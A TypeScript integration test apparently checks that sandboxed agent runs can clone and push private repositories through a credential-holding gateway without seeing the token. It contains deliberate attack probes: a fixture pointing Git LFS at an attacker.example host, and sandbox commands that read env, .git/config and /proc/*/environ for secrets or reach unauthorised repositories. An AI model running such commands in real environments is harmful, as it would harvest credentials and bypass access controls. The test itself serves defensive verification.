/**
 * Tests private repositories in a whole system: the service has the credential, and programs in the sandbox clone and push without it.
 */
import { spawnSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { afterAll, describe, expect, test } from 'vitest';
import { type FakeGitHost, type FakeGitHostOptions, startFakeGitHost } from '../fakes/git-host.ts';
import { startFakeLfsStore } from '../fakes/lfs-store.ts';
import { makeFakePullRequestApi } from '../fakes/pull-request-api.ts';
import type { System } from '../support/system.ts';

const token = 'github_pat_of-the-whole-system-0123456789';
const pullRequests = makeFakePullRequestApi(token);

const lfs = await startFakeLfsStore();
const asset = randomBytes(200_000);

/** Starts a fake code host with the repositories. The settings of the system name its address. */
export async function startPrivateHost(): Promise<FakeGitHost> {
  const api: FakeGitHostOptions['api'] = (request, response) =>
    pullRequests.api(request, response) || lfs.api(request, response);
  const host = await startFakeGitHost({ token, api });
  lfs.misnamed = `${host.url}/lfs-objects`;
  await host.commit('acme', 'site', { 'docs/README.md': 'private' });
  await host.commit('acme', 'secret', { 'README.md': 'of others' });
  const library = await host.commit('acme', 'library', { code: 'of the library' });
  const files = {
    '.gitattributes': '*.bin filter=lfs diff=lfs merge=lfs -text\n',
    '.gitmodules': '[submodule "library"]\n\tpath = library\n\turl = ../library.git\n',
    '.lfsconfig': '[lfs]\n\turl = https://attacker.example/lfs\n',
    'asset.bin': lfs.add('acme/game', asset),
  };
  await host.commit('acme', 'game', files, {}, { library });
  return host;
}

const hasLfs = spawnSync('git', ['lfs', 'version']).status === 0;

export const describePrivateRepositories = (system: System, host: FakeGitHost) =>
  describe('a private repository', () => {
    afterAll(() => lfs.close());

    test('cannot be cloned without a credential; with one, the sandbox can clone and push, but cannot read the credential', async () => {
      const config = {
        name: 'Private',
        github_repos: [{ owner: 'acme', repo: 'site' }],
        working_directory: 'site/docs',
        variables: { GREETING: 'hello' },
      };
      const { uid } = await system.call<{ uid: string }>('POST', '/agent/environments', { config }, 201);
      const script = [
        'cat README.md && echo "$GREETING"',
        'echo pushed > README.md',
        'git -c user.name=a -c user.email=a@example.invalid commit --quiet --all --message change',
        'git push origin HEAD:main || echo "not to main"',
        'git push --quiet origin HEAD:change',
        'git switch --quiet --create change && pull-request',
        // The run also tries to read other repositories: by their public URL, through the path of this repository, and as a submodule.
        'way=$(env | sed -n "s/^GIT_CONFIG_KEY_0=url\\.\\(.*\\)\\.insteadOf=*$/\\1/p")',
        'git ls-remote "$way" > way.txt && grep -q refs/heads/change way.txt && echo "reached its own"',
        'for url in https://github.com/acme/secret.git "$(echo "$way" | sed s/site/secret/)" https://github.com/acme/site.git/../secret.git; do git ls-remote "$url" && echo "reached another"; done',
        'git -c protocol.allow=always submodule --quiet add --force ../secret.git sub && echo "reached another"',
        'env; cat ../.git/config; cat /proc/[0-9]*/environ 2> /dev/null | tr "\\0" "\\n"',
      ];
      const start = () =>
        system.createRun(`\`\`\`sh\n${script.join('\n')}\n\`\`\``, { config: { environment_id: uid } });

      const refused = await system.untilEnded(await start(), 60_000);
      expect(refused).toMatchObject({
        state: 'FAILED',
        status_message: { error_code: 'external_authentication_required', inaccessible_repos: ['acme/site'] },
      });

      await system.call('POST', '/code-hosts', { scope: 'team', kind: 'token', token }, 201);
      const runId = await start();
      const run = await system.untilEnded(runId, 60_000);
      const conversation = JSON.stringify(await system.call('GET', `/agent/runs/${runId}/conversation`));
      expect(run.state, conversation).toBe('SUCCEEDED');
      expect(await host.read('acme', 'site', 'docs/README.md', 'change')).toBe('pushed');
      expect(conversation).toContain('hello');
      expect(conversation).toContain('main is protected as the default branch');
      expect(conversation).toContain('not to main\\n');
      expect(conversation).toContain('reached its own\\n');
      expect(conversation).not.toContain('reached another\\n');
      expect(host.requests.some(({ url }) => url.includes('secret'))).toBe(false);
      const { events } = await system.call<{ events: { event_type: string; payload: object }[] }>(
        'GET',
        `/agent/runs/${runId}/timeline`,
      );
      expect(events.filter(({ event_type }) => event_type === 'git_push').map(({ payload }) => payload)).toMatchObject([
        { repository: 'acme/site', branches: [{ branch: 'main', result: 'refused' }] },
        { repository: 'acme/site', branches: [{ branch: 'change', result: 'pushed' }] },
      ]);
      expect(pullRequests.pulls).toMatchObject([{ head: 'change', base: 'main', title: 'change' }]);
      expect(run.artifacts).toMatchObject([
        {
          artifact_type: 'PULL_REQUEST',
          data: { url: pullRequests.pulls[0]?.url, branch: 'change', status: 'unknown' },
        },
      ]);
      expect(conversation).not.toContain(token);
      expect(await system.logs()).not.toContain(token);
    }, 180_000);

    test.skipIf(!hasLfs)(
      'can be named by its address; its files of Git LFS and its submodule come through the gateway, and a push uploads files',
      async () => {
        const config = {
          name: 'Game',
          github_repos: [
            { url: `${host.url}/acme/game`, submodules: true, lfs: true },
            { url: `${host.url}/acme/library.git`, checkout: false },
          ],
          working_directory: 'game',
        };
        const made = await system.call<{ uid: string; config: object }>('POST', '/agent/environments', { config }, 201);
        expect(made.config).toMatchObject({
          github_repos: [
            { owner: 'acme', repo: 'game', submodules: true, lfs: true },
            { owner: 'acme', repo: 'library', checkout: false },
          ],
        });
        const script = [
          'sha256sum asset.bin; cat library/code; test ! -e ../library && echo no-second-clone; git status --short',
          'head -c 3000 /dev/urandom > new.bin && sha256sum new.bin && git add new.bin',
          'git -c user.name=a -c user.email=a@example.invalid commit --quiet --message new && git push --quiet origin HEAD:new',
          'env; cat .git/config',
        ];
        const runId = await system.createRun(`\`\`\`sh\n${script.join('\n')}\n\`\`\``, {
          config: { environment_id: made.uid },
        });
        const run = await system.untilEnded(runId, 60_000);
        const conversation = JSON.stringify(await system.call('GET', `/agent/runs/${runId}/conversation`));
        expect(run.state, conversation + JSON.stringify(run.status_message)).toBe('SUCCEEDED');
        expect(conversation).toContain(`${createHash('sha256').update(asset).digest('hex')}  asset.bin`);
        for (const line of ['of the library', 'no-second-clone']) expect(conversation).toContain(line);
        const [, added = ''] = /([0-9a-f]{64}) {2}new\.bin/.exec(conversation) ?? [];
        expect(lfs.read('acme/game', added)).toHaveLength(3000);
        expect(await host.read('acme', 'game', 'new.bin', 'new')).toContain(`oid sha256:${added}`);
        for (const hidden of [token, lfs.signature, 'attacker.example/lfs/objects'])
          expect(conversation).not.toContain(hidden);
      },
    );
  });
